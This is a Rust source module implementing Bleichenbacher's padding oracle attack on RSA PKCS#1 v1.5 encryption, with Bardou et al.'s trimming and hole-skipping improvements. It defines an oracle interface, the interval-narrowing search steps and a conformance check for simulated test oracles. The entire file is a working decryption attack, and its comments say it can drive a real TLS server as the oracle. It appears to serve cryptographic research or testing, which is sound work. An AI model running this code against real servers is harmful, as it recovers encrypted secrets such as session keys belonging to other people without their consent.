//! Bleichenbacher's attack on RSA PKCS#1 v1.5 encryption (CRYPTO 1998),
//! with the improvements of Bardou, Focardi, Kawamoto, Simionato, Steel and
//! Tsay, "Efficient Padding Oracle Attacks on Cryptographic Hardware"
//! (CRYPTO 2012): trimming the first interval, and skipping holes.
//!
//! Constant time: no, and it need not be: this is the attacker.
//!
//! The setting: `c0 = m0^e mod n` where `m0` is PKCS#1 v1.5 conforming, so
//! `2B <= m0 < 3B` with `B = 2^(8(k - 2))` (the block starts `00 02`). An
//! oracle says whether a ciphertext decrypts to a conforming block. RSA is
//! multiplicative: `c0 s^e` decrypts to `m0 s mod n`, so each "yes" for a
//! multiplier `s` says that `m0 s mod n` lies in `[2B, 3B)` — that is, for
//! some integer `r`, `2B + r n <= m0 s < 3B + r n` — which cuts down the set
//! of possible `m0`. The attack keeps that set, `M`, as a union of
//! intervals, and picks multipliers that halve it, until one value is left.
//!
//! The attack talks to its oracle in multipliers (`s`, or `u/t` when
//! trimming); the oracle side turns a multiplier into the ciphertext
//! `c0 s^e mod n` it sends, so a simulated oracle (which knows `m0`, for
//! tests) and a real one (a TLS server) look the same here.

use crate::nat::{ModN, Nat, gcd};

/// Whether `m0 s mod n` is PKCS#1 v1.5 conforming, as some oracle reveals it.
pub trait Oracle {
    /// Asks about multiplier `s` (below n).
    fn conforming(&mut self, s: &Nat) -> Result<bool, String>;

    /// Asks about several multipliers at once (an oracle that can, such as
    /// a server with two cores, asks in parallel); the answers in order.
    fn conforming_batch(&mut self, batch: &[Nat]) -> Result<Vec<bool>, String> {
        batch.iter().map(|s| self.conforming(s)).collect()
    }

    /// How many multipliers to ask about at once (1: one at a time).
    fn width(&self) -> usize {
        1
    }
}

/// What the attack reports as it goes.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Progress {
    /// Oracle queries so far.
    pub queries: u64,
    /// The phase: "trimming", "step 2a", "step 2b", "step 2c".
    pub phase: &'static str,
    /// How many bits of uncertainty are left about m0 (log2 of the size of M).
    pub bits_left: usize,
}

/// The result: `m0` and how much it cost.
pub struct Recovered {
    /// The conforming block `m0`, on k bytes.
    pub plaintext: Vec<u8>,
    /// Oracle queries in all.
    pub queries: u64,
    /// Queries spent trimming (Bardou et al. §4.1).
    pub trimming_queries: u64,
    /// Queries spent finding the first multiplier (step 2a).
    pub step2a_queries: u64,
    /// Trimmers found.
    pub trimmers: usize,
}

/// The largest trimmer denominator tried (Bardou et al. use 2^12).
const MAX_TRIMMER_T: u64 = 4096;

/// At most this many trimming queries.
const TRIMMING_BUDGET: u64 = 700;

/// Recovers `m0` from `c0 = m0^e mod n` through `oracle`, in at most
/// `budget` queries; `progress` is called every `every` queries and at each
/// phase.
pub fn recover(
    n: &Nat,
    oracle: &mut dyn Oracle,
    budget: u64,
    every: u64,
    progress: &mut dyn FnMut(&Progress),
) -> Result<Recovered, String> {
    let mut attack = Attack::new(n, oracle, budget, every, progress);
    attack.run()
}

/// An interval `[a, b]` of candidates for `m0`.
#[derive(Clone, Debug, PartialEq, Eq)]
struct Interval {
    a: Nat,
    b: Nat,
}

struct Attack<'a> {
    n: ModN,
    k: usize,
    /// 2B and 3B.
    b2: Nat,
    b3: Nat,
    oracle: &'a mut dyn Oracle,
    queries: u64,
    budget: u64,
    every: u64,
    phase: &'static str,
    bits_left: usize,
    progress: &'a mut dyn FnMut(&Progress),
}

impl<'a> Attack<'a> {
    fn new(
        n: &Nat,
        oracle: &'a mut dyn Oracle,
        budget: u64,
        every: u64,
        progress: &'a mut dyn FnMut(&Progress),
    ) -> Attack<'a> {
        let k = n.bits().div_ceil(8);
        let b = Nat::pow2(8 * (k - 2));
        Attack {
            n: ModN::new(n),
            k,
            b2: b.mul(&Nat::from_u64(2)),
            b3: b.mul(&Nat::from_u64(3)),
            oracle,
            queries: 0,
            budget,
            every: every.max(1),
            phase: "trimming",
            bits_left: 8 * (k - 2),
            progress,
        }
    }

    fn run(&mut self) -> Result<Recovered, String> {
        // Step 1 (blinding) is not needed: c0 itself is conforming, so s0 = 1.
        let (first, trimmers) = self.trim()?;
        let trimming_queries = self.queries;
        self.set_phase("step 2a");
        let mut s = self.step_2a(&first)?;
        let step2a_queries = self.queries - trimming_queries;
        let mut m = self.narrow(&[first], &s);
        loop {
            match m.as_slice() {
                [only] if only.a == only.b => break,
                [only] => {
                    self.set_phase("step 2c");
                    s = self.step_2c(only, &s)?;
                }
                several => {
                    self.set_phase("step 2b");
                    let several = several.to_vec();
                    s = self.step_2b(&several, &s)?;
                }
            }
            m = self.narrow(&m, &s);
            if m.is_empty() {
                return Err("no candidate is left: the oracle's answers contradict each other".into());
            }
        }
        self.report();
        let plaintext = m[0].a.to_be_bytes(self.k).ok_or("the result is longer than n")?;
        Ok(Recovered { plaintext, queries: self.queries, trimming_queries, step2a_queries, trimmers })
    }

    /// Oracle queries for the multipliers of `batch`.
    fn ask(&mut self, batch: &[Nat]) -> Result<Vec<bool>, String> {
        if self.queries >= self.budget {
            return Err(format!("gave up after {} queries (the budget)", self.queries));
        }
        let before = self.queries;
        self.queries += batch.len() as u64;
        if self.queries / self.every != before / self.every {
            self.report();
        }
        self.oracle.conforming_batch(batch)
    }

    /// The first conforming multiplier that `candidates` gives, asking the
    /// oracle [`Oracle::width`] at a time (in order: the first hit wins).
    fn first_hit(&mut self, candidates: &mut dyn FnMut() -> Nat) -> Result<Nat, String> {
        let width = self.oracle.width().max(1);
        loop {
            let batch: Vec<Nat> = (0..width).map(|_| candidates()).collect();
            let answers = self.ask(&batch)?;
            if let Some(hit) = answers.iter().position(|&yes| yes) {
                return Ok(batch[hit].clone());
            }
        }
    }

    fn set_phase(&mut self, phase: &'static str) {
        if self.phase != phase {
            self.phase = phase;
            self.report();
        }
    }

    fn report(&mut self) {
        let progress = Progress { queries: self.queries, phase: self.phase, bits_left: self.bits_left };
        (self.progress)(&progress);
    }

    /// Bardou et al. §4.1, trimming M0: for small coprime `u < t` and `t < u`
    /// with `2/3 < u/t < 3/2`, a conforming `m0 u/t` means `t` divides `m0`
    /// and `2B t/u <= m0 < 3B t/u`. With `t'` the lcm of the `t` found and
    /// `u_min`, `u_max` the extreme numerators over `t'`, the first interval
    /// shrinks to `[2B t'/u_min, (3B - 1) t'/u_max]`.
    fn trim(&mut self) -> Result<(Interval, usize), String> {
        // Every coprime u/t with 2/3 < u/t < 3/2, small t first.
        let mut fractions = Vec::new();
        for t in 3..=MAX_TRIMMER_T {
            let (lo, hi) = ((2 * t) / 3 + 1, (3 * t).div_ceil(2) - 1);
            fractions.extend((lo..=hi).filter(|&u| u != t && gcd_u64(u, t) == 1).map(|u| (u, t)));
            if fractions.len() as u64 >= TRIMMING_BUDGET {
                break;
            }
        }
        fractions.truncate(TRIMMING_BUDGET as usize);
        let mut found: Vec<(u64, u64)> = Vec::new();
        let width = self.oracle.width().max(1);
        for chunk in fractions.chunks(width) {
            let mut batch = Vec::with_capacity(chunk.len());
            for &(u, t) in chunk {
                let t_inv = self.n.inv(&Nat::from_u64(t)).ok_or("n has a small factor")?;
                batch.push(self.n.mul(&Nat::from_u64(u), &t_inv));
            }
            let answers = self.ask(&batch)?;
            found.extend(chunk.iter().zip(answers).filter(|(_, yes)| *yes).map(|(&f, _)| f));
        }
        let t_prime = found.iter().fold(Nat::from_u64(1), |acc, &(_, t)| {
            let t = Nat::from_u64(t);
            acc.mul(&t).div_floor(&gcd(&acc, &t))
        });
        let scaled = |&(u, t): &(u64, u64)| Nat::from_u64(u).mul(&t_prime.div_floor(&Nat::from_u64(t)));
        let u_min = found.iter().map(scaled).fold(t_prime.clone(), Nat::min);
        let u_max = found.iter().map(scaled).fold(t_prime.clone(), Nat::max);
        let a = self.b2.mul(&t_prime).div_ceil(&u_min).max(self.b2.clone());
        let top = self.b3.sub(&Nat::from_u64(1));
        let b = top.mul(&t_prime).div_floor(&u_max).min(top);
        let interval = Interval { a, b };
        self.bits_left = interval.b.sub(&interval.a).bits();
        Ok((interval, found.len()))
    }

    /// Step 2a with Bardou et al.'s hole skipping: the smallest conforming
    /// `s >= (n + 2B)/b`, trying only the `s` for which some `r` puts
    /// `m0 s` in `[2B + r n, 3B + r n)` for an `m0` in `[a, b]`: that is
    /// `(2B + r n)/b <= s <= (3B - 1 + r n)/a`.
    fn step_2a(&mut self, first: &Interval) -> Result<Nat, String> {
        let (n, one) = (self.n.value.clone(), Nat::from_u64(1));
        let (b2, top) = (self.b2.clone(), self.b3.sub(&one));
        let mut s = n.add(&b2).div_ceil(&first.b);
        let mut r = Nat::from_u64(0);
        let mut hi = Nat::from_u64(0);
        let mut candidates = || {
            while s > hi {
                r = r.add(&one);
                let r_n = r.mul(&n);
                s = s.clone().max(b2.add(&r_n).div_ceil(&first.b));
                hi = top.add(&r_n).div_floor(&first.a);
            }
            let next = s.clone();
            s = s.add(&one);
            next
        };
        self.first_hit(&mut candidates)
    }

    /// Step 2b, several intervals left. Bleichenbacher searches upwards from
    /// the last `s`, where each query succeeds with probability about
    /// `B/n`; Bardou et al.'s "parallel threads" run the search of step 2c
    /// for every interval at once, one query each in turn, which succeeds
    /// as soon as the search of the interval that holds `m0` does.
    fn step_2b(&mut self, m: &[Interval], last: &Nat) -> Result<Nat, String> {
        let mut searches: Vec<Search2c> = m.iter().map(|i| Search2c::new(self, i, last)).collect();
        let mut turn = 0;
        let mut candidates = || {
            turn = (turn + 1) % searches.len();
            searches[turn].next()
        };
        self.first_hit(&mut candidates)
    }

    /// Step 2c, one interval `[a, b]` left: `r >= 2 (b s - 2B)/n`, and for
    /// each `r` the `s` with `(2B + r n)/b <= s < (3B + r n)/a`; each hit
    /// roughly halves the interval.
    fn step_2c(&mut self, m: &Interval, last: &Nat) -> Result<Nat, String> {
        let mut search = Search2c::new(self, m, last);
        self.first_hit(&mut || search.next())
    }

    /// Step 3: the intervals of `M` that agree with "m0 s mod n is
    /// conforming": for each `[a, b]` and each `r` from `(a s - 3B + 1)/n`
    /// to `(b s - 2B)/n`, the part `[(2B + r n)/s, (3B - 1 + r n)/s]`.
    fn narrow(&mut self, m: &[Interval], s: &Nat) -> Vec<Interval> {
        let n = self.n.value.clone();
        let one = Nat::from_u64(1);
        let top = self.b3.sub(&one);
        let mut next: Vec<Interval> = Vec::new();
        for interval in m {
            let mut r = interval.a.mul(s).sub(&top).div_ceil(&n);
            let r_max = interval.b.mul(s).sub(&self.b2).div_floor(&n);
            while r <= r_max {
                let r_n = r.mul(&n);
                let a = interval.a.clone().max(self.b2.add(&r_n).div_ceil(s));
                let b = interval.b.clone().min(top.add(&r_n).div_floor(s));
                if a <= b {
                    insert(&mut next, Interval { a, b });
                }
                r = r.add(&one);
            }
        }
        self.bits_left = next.iter().map(|i| i.b.sub(&i.a).bits()).max().unwrap_or(0);
        next
    }
}

/// The candidates of step 2c for one interval, in order: for `r = 2 (b s
/// - 2B)/n, ...`, the `s` with `(2B + r n)/b <= s < (3B + r n)/a`.
struct Search2c {
    interval: Interval,
    n: Nat,
    b2: Nat,
    b3: Nat,
    r: Nat,
    s: Nat,
    /// The end (exclusive) of the current `r`'s range of `s`.
    end: Nat,
}

impl Search2c {
    fn new(attack: &Attack<'_>, interval: &Interval, last: &Nat) -> Search2c {
        let n = attack.n.value.clone();
        let r = interval.b.mul(last).sub(&attack.b2).mul(&Nat::from_u64(2)).div_ceil(&n);
        let mut search = Search2c {
            interval: interval.clone(),
            n,
            b2: attack.b2.clone(),
            b3: attack.b3.clone(),
            r,
            s: Nat::from_u64(0),
            end: Nat::from_u64(0),
        };
        search.start_r();
        search
    }

    fn start_r(&mut self) {
        let r_n = self.r.mul(&self.n);
        self.s = self.b2.add(&r_n).div_ceil(&self.interval.b);
        self.end = self.b3.add(&r_n).div_ceil(&self.interval.a);
    }

    /// The next multiplier to try.
    fn next(&mut self) -> Nat {
        while self.s >= self.end {
            self.r = self.r.add(&Nat::from_u64(1));
            self.start_r();
        }
        let s = self.s.clone();
        self.s = self.s.add(&Nat::from_u64(1));
        s
    }
}

/// Adds an interval to a list, merging it with any it overlaps.
fn insert(list: &mut Vec<Interval>, mut new: Interval) {
    list.retain(|old| {
        let overlaps = old.a <= new.b && new.a <= old.b;
        if overlaps {
            new.a = old.a.clone().min(new.a.clone());
            new.b = old.b.clone().max(new.b.clone());
        }
        !overlaps
    });
    list.push(new);
}

fn gcd_u64(mut a: u64, mut b: u64) -> u64 {
    while b != 0 {
        (a, b) = (b, a % b);
    }
    a
}

/// Whether `block` is PKCS#1 v1.5 conforming as RFC 8017 §7.2.2 step 3
/// checks it: `00 02`, eight or more non-zero bytes, a zero. (The oracle
/// of Bardou et al.'s kind "FFT": the length of what follows the zero is
/// not checked.) Variable time: for simulated oracles in tests.
pub fn conforming_vartime(block: &[u8]) -> bool {
    block.len() >= 11
        && block[0] == 0
        && block[1] == 2
        && block[2..10].iter().all(|&b| b != 0)
        && block[10..].contains(&0)
}
